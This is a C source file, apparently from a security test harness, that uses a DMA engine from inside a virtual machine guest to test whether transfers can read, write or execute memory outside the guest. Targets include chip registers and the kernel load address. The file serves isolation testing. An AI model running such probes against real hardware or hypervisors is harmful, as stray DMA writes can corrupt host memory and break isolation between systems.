/* SPDX-License-Identifier: MIT */
/* Transfers with guest-physical addresses; see attack.h. */
#include "attack.h"
#include "attack_parts.h"
#include "engine.h"

enum {
    COPY_SIZE = 64 << 10,
    PROBE_FILL = 0x5a,
    PAGE = 4096,
};

/* Offsets in the own memory. */
enum place {
    PROGRAM = 0,
    SOURCE = 0x10000,
    TARGET = 0x20000,
    ENDLESS_SOURCE = 0x40000,
    ENDLESS_TARGET = 0x41000,
};

enum { MARK_SHIFT = 20, MARK_MASK = 0xfff, MARK_TIME_SHIFT = 10 };

uint32_t attack_word(const struct attacker *attacker, uint32_t offset)
{
    return *(volatile uint32_t *)(attacker->memory + offset);
}

void attack_set_word(struct attacker *attacker, uint32_t offset, uint32_t value)
{
    *(volatile uint32_t *)(attacker->memory + offset) = value;
}

void attack_print_number(const struct attacker *attacker, uint32_t number, uint32_t base)
{
    char text[12];
    uint32_t first = sizeof(text) - 1;
    text[first] = '\0';
    do {
        first--;
        text[first] = "0123456789abcdef"[number % base];
        number /= base;
    } while (number != 0);
    if (base == HEXADECIMAL) {
        attacker->print("0x");
    }
    attacker->print(text + first);
}

bool attack_digit(char letter, uint32_t *digit)
{
    *digit = (uint32_t)(letter >= 'a' ? letter - 'a' + 10 : letter - '0');
    return (letter >= '0' && letter <= '9') || (letter >= 'a' && letter <= 'f');
}

/* Run a program, and tell how the engine is when it ends or `patience` does. */
static enum engine_state run(struct attacker *attacker, uint32_t program, uint32_t patience)
{
    engine_start(attacker->engine, program);
    uint64_t end = attacker->microseconds() + patience;
    while (engine_state(attacker->engine) == ENGINE_RUNNING && attacker->microseconds() < end) {
    }
    enum engine_state state = engine_state(attacker->engine);
    engine_reset(attacker->engine);
    return state;
}

bool attack_run(struct attacker *attacker, uint32_t program, uint32_t patience)
{
    return run(attacker, program, patience) == ENGINE_STOPPED;
}

/* A mark that no transfer since long has left in memory; not 0. */
static uint32_t new_mark(const struct attacker *attacker)
{
    static uint32_t mark;
    mark = mark == 0 ? (uint32_t)(attacker->microseconds() >> MARK_TIME_SHIFT) : mark + 1;
    mark &= MARK_MASK;
    mark += mark == 0;
    return mark;
}

static void fill(struct attacker *attacker, uint32_t offset, uint32_t size, uint32_t mark)
{
    for (uint32_t i = 0; i < size; i += 4) {
        attack_set_word(attacker, offset + i, mark == 0 ? 0 : mark << MARK_SHIFT | i);
    }
}

static bool holds(const struct attacker *attacker, uint32_t offset, uint32_t size, uint32_t mark)
{
    for (uint32_t i = 0; i < size; i += 4) {
        if (attack_word(attacker, offset + i) != (mark == 0 ? 0 : mark << MARK_SHIFT | i)) {
            return false;
        }
    }
    return true;
}

void attack_copy(struct attacker *attacker)
{
    uint32_t mark = new_mark(attacker);
    fill(attacker, SOURCE, COPY_SIZE, mark);
    fill(attacker, TARGET, COPY_SIZE, 0);
    engine_copy_program(attacker->memory + PROGRAM, attacker->address + SOURCE,
                        attacker->address + TARGET, COPY_SIZE);
    bool done = attack_run(attacker, attacker->address + PROGRAM, PATIENCE);
    if (holds(attacker, TARGET, COPY_SIZE, mark)) {
        attacker->print(done ? "dma: copy: done and right\n" : "dma: copy: right, but no end\n");
    } else if (holds(attacker, TARGET, COPY_SIZE, 0)) {
        attacker->print(done ? "dma: copy: went elsewhere\n"
                             : "dma: copy: held back, nothing written\n");
    } else {
        attacker->print("dma: copy: wrong\n");
    }
}

/* Copy to the own memory from `address`. */
static bool can_read(struct attacker *attacker, uint32_t address)
{
    uint32_t mark = new_mark(attacker);
    fill(attacker, TARGET, ENGINE_UNIT, mark);
    engine_copy_program(attacker->memory + PROGRAM, address, attacker->address + TARGET,
                        ENGINE_UNIT);
    bool done = attack_run(attacker, attacker->address + PROGRAM, GUESS_PATIENCE);
    return done || !holds(attacker, TARGET, ENGINE_UNIT, mark);
}

static bool can_write(struct attacker *attacker, uint32_t address)
{
    fill(attacker, SOURCE, ENGINE_UNIT, new_mark(attacker));
    engine_copy_program(attacker->memory + PROGRAM, attacker->address + SOURCE, address,
                        ENGINE_UNIT);
    return attack_run(attacker, attacker->address + PROGRAM, GUESS_PATIENCE);
}

/* What is there is hardly a program; but it was fetched if the engine faults on it. */
static bool can_fetch(struct attacker *attacker, uint32_t address)
{
    return run(attacker, address, GUESS_PATIENCE) != ENGINE_RUNNING;
}

void attack_at(struct attacker *attacker, uint32_t address)
{
    bool reads = can_read(attacker, address);
    bool writes = can_write(attacker, address);
    bool fetches = can_fetch(attacker, address);
    attacker->print("dma: outside: ");
    attack_print_number(attacker, address, HEXADECIMAL);
    attacker->print(reads ? ": read," : ": not read,");
    attacker->print(writes ? " written," : " not written,");
    attacker->print(fetches ? " fetched from\n" : " not fetched from\n");
}

/* The gap is the guest's own RAM: it can see whether it was written. */
static void try_gap(struct attacker *attacker)
{
    uint32_t mark = new_mark(attacker);
    fill(attacker, attacker->gap, ENGINE_UNIT, mark);
    attack_at(attacker, attacker->address + attacker->gap);
    if (!holds(attacker, attacker->gap, ENGINE_UNIT, mark)) {
        attacker->print("dma: outside: the gap was written\n");
    }
}

void attack_outside(struct attacker *attacker)
{
    const uint32_t end = attacker->ram_end;
    const uint32_t addresses[] = {
        0,
        0x02020000, /* internal RAM, where boot loaders are */
        0x10000000, /* registers of the chip */
        0x40000000, /* the first RAM */
        0x43e00000, /* where the kernel was loaded */
        attacker->ram_base - PAGE,
        end,
        end + ATTACK_BLOCK,
        0xfffff000,
    };
    for (uint32_t i = 0; i < sizeof(addresses) / sizeof(addresses[0]); i++) {
        attack_at(attacker, addresses[i]);
    }
    try_gap(attacker);
    attacker->print("dma: outside: end\n");
}

void attack_endless(struct attacker *attacker)
{
    fill(attacker, ENDLESS_SOURCE, ENGINE_UNIT, new_mark(attacker));
    engine_endless_program(attacker->memory + PROGRAM, attacker->address + ENDLESS_SOURCE,
                           attacker->address + ENDLESS_TARGET);
    engine_start(attacker->engine, attacker->address + PROGRAM);
    attack_progress(attacker);
}

void attack_progress(struct attacker *attacker)
{
    uint32_t mark = new_mark(attacker);
    fill(attacker, ENDLESS_SOURCE, ENGINE_UNIT, mark);
    uint64_t end = attacker->microseconds() + PATIENCE;
    bool moved = false;
    while (!moved && attacker->microseconds() < end) {
        moved = holds(attacker, ENDLESS_TARGET, ENGINE_UNIT, mark);
    }
    attacker->print(moved ? "dma: endless: moves on\n" : "dma: endless: stands still\n");
}

void attack_stop(struct attacker *attacker)
{
    engine_reset(attacker->engine);
    attacker->print("dma: stopped\n");
}
